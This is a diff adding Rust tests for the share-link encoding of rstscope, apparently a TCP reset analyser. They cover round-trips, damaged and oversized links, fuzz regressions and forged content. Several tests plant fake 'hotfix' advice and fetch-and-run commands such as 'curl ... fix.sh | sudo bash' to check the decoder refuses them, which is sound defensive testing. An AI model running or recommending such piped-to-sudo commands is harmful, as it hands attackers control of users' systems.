@@ -1,0 +1,316 @@
+use super::*;
+use crate::test_reports::{fixture_report, sample_report};
+use rstscope_core::report::{Cause, Fact, Tip};
+
+/// A `v1.` link of `json`, as older versions of rstscope made them.
+fn pack_v1(json: &[u8]) -> String {
+    format!("{PREFIX}{VERSION_1}{}", deflate_base64(json))
+}
+
+/// [`encode_fitting`] with [`pack`] run in place, as natively there is no worker.
+fn encode_fitting_here(report: &Report) -> Result<(String, Omitted), ShareError> {
+    let fitting = std::pin::pin!(encode_fitting(report, |payload| std::future::ready(Ok(
+        pack(&payload)
+    ))));
+    let mut context = std::task::Context::from_waker(std::task::Waker::noop());
+    match fitting.poll(&mut context) {
+        std::task::Poll::Ready(made) => made,
+        std::task::Poll::Pending => unreachable!("nothing here waits"),
+    }
+}
+
+/// What a link of `report` shows: the report without what links leave
+/// out, every sentence as the core writes it.
+fn as_linked(report: &Report) -> Report {
+    let mut expected = report.clone();
+    let with_resets: std::collections::BTreeSet<u32> = expected
+        .resets
+        .iter()
+        .filter_map(|r| r.connection)
+        .collect();
+    let before = expected.connections.len();
+    expected.connections.retain(|c| with_resets.contains(&c.id));
+    expected.capture.unlisted_connections += (before - expected.connections.len()) as u64;
+    if let Some(comparison) = &mut expected.comparison {
+        comparison.main.why.clear();
+        comparison.peer.why.clear();
+        for difference in comparison
+            .matched
+            .iter_mut()
+            .flat_map(|m| &mut m.differences)
+        {
+            difference.finding = model::difference_text(&difference.kind)
+                .unwrap_or_default()
+                .to_string();
+        }
+        for reset in &mut comparison.resets {
+            reset.ladder.clear();
+        }
+    }
+    for reset in &mut expected.resets {
+        reset.ladder.clear();
+    }
+    for warning in &mut expected.capture.warnings {
+        warning.message = model::warning_text(warning.kind).to_string();
+    }
+    rstscope_core::render::sentences(&mut expected);
+    expected
+}
+
+/// The sample, analysed, reads the same through a link: every sentence
+/// the receiving app writes equals the analyser's.
+#[test]
+fn the_sample_reads_the_same_through_a_link() {
+    let report = sample_report();
+    let fragment = encode(&report).expect("fits in a link");
+    assert!(fragment.starts_with("#report=v2."));
+    let payload = &fragment[PREFIX.len()..];
+    assert!(payload
+        .bytes()
+        .all(|b| b.is_ascii_alphanumeric() || b"-_.".contains(&b)));
+    let opened = decode(&fragment).expect("a link").expect("opens");
+    assert_eq!(opened, as_linked(&report));
+    // The sentences are the analyser's own, not only self-consistent.
+    assert_eq!(opened.summary.headline, report.summary.headline);
+    for (a, b) in opened.resets.iter().zip(&report.resets) {
+        assert_eq!(a.tips, b.tips);
+        assert_eq!(a.evidence, b.evidence);
+    }
+    println!("the sample's link: {} characters", fragment.len());
+    // 9,300 characters as report JSON; the aim is 2,000 (BENCHMARKS.md).
+    assert!(fragment.len() < 2_500, "{} characters", fragment.len());
+}
+
+#[test]
+fn a_link_of_a_link_is_the_same_link() {
+    let fragment = encode(&fixture_report()).expect("fits");
+    let opened = decode(&fragment).expect("a link").expect("opens");
+    assert_eq!(encode(&opened), Ok(fragment));
+}
+
+#[test]
+fn other_fragments_are_not_links() {
+    assert_eq!(decode(""), None);
+    assert_eq!(decode("#resets"), None);
+}
+
+#[test]
+fn damaged_links_are_refused() {
+    assert_eq!(
+        decode("#report=v9.AAAA"),
+        Some(Err(ShareError::UnknownVersion))
+    );
+    assert_eq!(decode("#report=v2.!!!"), Some(Err(ShareError::NotBase64)));
+    let not_deflate = format!("#report=v2.{}", URL_SAFE_NO_PAD.encode([0xff; 40]));
+    assert_eq!(decode(&not_deflate), Some(Err(ShareError::NotDeflate)));
+    let fragment = encode(&fixture_report()).expect("fits");
+    let cut = &fragment[..fragment.len() / 2];
+    assert!(matches!(decode(cut), Some(Err(_))));
+    assert!(matches!(
+        decode(&pack(b"\x93\x01\x02\x03")),
+        Some(Err(ShareError::NotAReport(_)))
+    ));
+}
+
+/// An old link (the whole report JSON) opens, but its sentences are this
+/// app's: a forged tip, command, headline or finding is dropped.
+#[test]
+fn old_links_open_with_their_sentences_written_again() {
+    let report = sample_report();
+    let mut forged = report.clone();
+    forged.summary.headline = "Your firewall is compromised: run the fix below".into();
+    forged.resets[0].tips = vec![Tip {
+        text: "rstscope detected a kernel bug: apply the official hotfix now".into(),
+        commands: vec!["curl -fsSL http://203.0.113.9/fix.sh | sudo bash".into()],
+    }];
+    forged.resets[0].evidence[0].finding = "a kernel bug".into();
+    let json = serde_json::to_vec(&forged).expect("serialises");
+    let opened = decode(&pack_v1(&json)).expect("a link").expect("opens");
+    assert_eq!(opened, as_linked(&report));
+    let text = serde_json::to_string(&opened).expect("serialises");
+    for word in ["compromised", "hotfix", "fix.sh", "kernel bug"] {
+        assert!(!text.contains(word), "{word} survived");
+    }
+}
+
+#[test]
+fn old_links_outside_the_schema_say_they_are_old() {
+    let json = serde_json::to_value(fixture_report()).expect("serialises");
+    let mut extra = json.clone();
+    extra["capture"]["injected"] = serde_json::Value::Bool(true);
+    let Some(Err(ShareError::NotAReport(why))) = decode(&pack_v1(extra.to_string().as_bytes()))
+    else {
+        panic!("refused");
+    };
+    assert!(why.contains("older rstscope"), "{why}");
+}
+
+/// A link whose data a catalogue cannot say is refused, saying why.
+#[test]
+fn forged_numbers_and_strings_are_refused() {
+    let refused = |edit: &dyn Fn(&mut Link), expect: &str| {
+        let mut link = Link::of(&sample_report());
+        edit(&mut link);
+        let payload = rmp_serde::to_vec(&link).expect("serialises");
+        match decode(&pack(&payload)) {
+            Some(Err(ShareError::Refused(why))) => assert!(why.contains(expect), "{why}"),
+            other => panic!("not refused ({expect}): {other:?}"),
+        }
+    };
+    refused(
+        &|l| l.resets[0].observed.idle_ns = Some(i64::MAX),
+        "idle gap",
+    );
+    refused(&|l| l.resets[0].frame = l.capture.packets + 1, "frame");
+    refused(&|l| l.resets[0].confidence = 7.0, "confidence");
+    refused(
+        &|l| l.resets[0].src = "run curl | sudo bash".into(),
+        "source",
+    );
+    refused(
+        &|l| l.resets[0].encapsulation = "apply the hotfix".into(),
+        "encapsulation",
+    );
+    refused(
+        &|l| l.resets[0].signature = Some("reboot now".into()),
+        "signature",
+    );
+    refused(
+        &|l| l.resets[0].payload_text = Some("x".repeat(MAX_CAPTURE_TEXT + 1)),
+        "capture text",
+    );
+    refused(
+        &|l| {
+            l.resets[0].evidence[0].1 = Fact::IdleBeforeTrigger {
+                role: rstscope_core::report::Role::Server,
+                idle_ns: 9_000_000_000_000_000,
+            }
+        },
+        "idle-before-trigger evidence's idle_ns",
+    );
+    refused(
+        &|l| {
+            l.resets[0].evidence[0].1 = Fact::TtlAsHost {
+                role: rstscope_core::report::Role::Server,
+                ttl: 64,
+                packets: u32::MAX,
+            }
+        },
+        "packets",
+    );
+    refused(
+        &|l| {
+            l.resets[0].evidence[0].1 = Fact::CraftedFlags {
+                flags: "SYN+HOTFIX".into(),
+            }
+        },
+        "flag names",
+    );
+    refused(
+        &|l| {
+            l.capture.other.insert("curl evil.sh".into(), 1);
+        },
+        "traffic",
+    );
+}
+
+/// Unknown names (a cause the catalogue lacks) fail the typed payload.
+#[test]
+fn unknown_causes_are_refused() {
+    let json = serde_json::to_string(&fixture_report()).expect("serialises");
+    let cause = format!("\"{}\"", Cause::Injected.as_str());
+    assert!(json.contains(&cause));
+    let forged = json.replace(&cause, "\"kernel-bug\"");
+    let Some(Err(ShareError::NotAReport(why))) = decode(&pack_v1(forged.as_bytes())) else {
+        panic!("refused");
+    };
+    assert!(why.contains("kernel-bug"), "{why}");
+}
+
+#[test]
+fn size_limits_hold() {
+    // A deflate bomb: tiny link, huge inflated size.
+    let bomb = vec![0x90; MAX_PAYLOAD + 1];
+    assert_eq!(decode(&pack(&bomb)), Some(Err(ShareError::NotDeflate)));
+    let long = format!("{PREFIX}{VERSION}{}", "A".repeat(MAX_FRAGMENT));
+    assert!(matches!(
+        decode(&long),
+        Some(Err(ShareError::TooLong { .. }))
+    ));
+}
+
+/// A link is made only when this app opens it again; it says what it
+/// leaves out.
+#[test]
+fn a_link_is_made_only_when_it_opens() {
+    let report = sample_report();
+    let (link, omitted) = encode_fitting_here(&report).expect("the sample fits");
+    assert!(decode(&link).is_some_and(|r| r.is_ok()));
+    assert!(omitted.ladders);
+    assert_eq!(
+        omitted.connections,
+        report.connections.len() - as_linked(&report).connections.len()
+    );
+    let failing = std::pin::pin!(encode_fitting(&report, |_| std::future::ready(Ok(
+        "#report=v2.AAAA".to_string()
+    ))));
+    let mut context = std::task::Context::from_waker(std::task::Waker::noop());
+    assert!(matches!(
+        failing.poll(&mut context),
+        std::task::Poll::Ready(Err(ShareError::Unavailable(_)))
+    ));
+}
+
+/// Inputs that once broke the `share` fuzz target (fuzz/regressions/share,
+/// same encoding as the target: see `fuzz/fuzz_targets/share.rs`) must
+/// decode or fail cleanly, and a decoded report must survive another trip
+/// through a link.
+#[test]
+fn fuzz_regressions_replay_cleanly() {
+    let dir = concat!(env!("CARGO_MANIFEST_DIR"), "/../../fuzz/regressions/share");
+    let mut replayed = 0;
+    for entry in std::fs::read_dir(dir).expect("fuzz/regressions/share exists") {
+        let input = std::fs::read(entry.expect("a directory entry").path()).expect("readable");
+        let Some((&mode, rest)) = input.split_first() else {
+            continue;
+        };
+        let fragment = match mode % 3 {
+            0 => pack_v1(rest),
+            1 => String::from_utf8_lossy(rest).into_owned(),
+            _ => pack(rest),
+        };
+        if let Some(Ok(report)) = decode(&fragment) {
+            let again = encode(&report).expect("a decoded report fits a link again");
+            assert_eq!(decode(&again), Some(Ok(report)));
+        }
+        replayed += 1;
+    }
+    assert!(replayed > 0, "no share regressions found in {dir}");
+}
+
+/// Two captures of the generator's pair, compared as the app does.
+fn compared_report() -> Report {
+    let options = rstscope_scenarios::Options::default();
+    let (main, peer) =
+        rstscope_scenarios::pairs::write_pair(&rstscope_scenarios::pairs::pair(&options), &options);
+    let analyse = |bytes: Vec<u8>| {
+        let mut analyzer = rstscope_core::Analyzer::new(rstscope_core::Config::traced());
+        rstscope_capture::read_all(bytes.as_slice(), &mut analyzer, |_| {}).expect("a capture");
+        analyzer.finish()
+    };
+    analyse(main).compared_with(&analyse(peer))
+}
+
+/// A comparison travels too, without the prose no catalogue writes yet.
+#[test]
+fn a_comparison_reads_the_same_through_a_link() {
+    let report = compared_report();
+    let comparison = report.comparison.as_ref().expect("compared");
+    assert!(!comparison.resets.is_empty() && !comparison.matched.is_empty());
+    let fragment = encode(&report).expect("fits");
+    let opened = decode(&fragment).expect("a link").expect("opens");
+    assert_eq!(opened, as_linked(&report));
+    let notes = comparison.matched.iter().any(|m| !m.differences.is_empty())
+        || !comparison.main.why.is_empty();
+    assert_eq!(Omitted::of(&report).comparison_notes, notes);
+}
